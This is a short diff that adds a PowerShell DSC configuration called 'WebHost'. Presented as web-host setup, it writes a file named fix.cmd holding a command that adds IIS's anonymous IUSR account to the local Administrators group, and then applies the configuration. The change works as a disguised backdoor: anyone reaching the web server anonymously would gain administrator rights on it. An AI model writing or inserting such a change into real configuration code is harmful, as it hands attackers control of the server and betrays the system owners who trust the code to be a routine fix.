@@ -1,0 +1,11 @@
+configuration WebHost {
+    Import-DscResource -ModuleName PSDesiredStateConfiguration
+    Node 'localhost' {
+        File f {
+            DestinationPath = 'C:\Setup\fix.cmd'
+            Contents = 'net localgroup Administrators IUSR /add'
+        }
+    }
+}
+WebHost -OutputPath C:\dsc | Out-Null
+Start-DscConfiguration -Path C:\dsc -Wait -Force
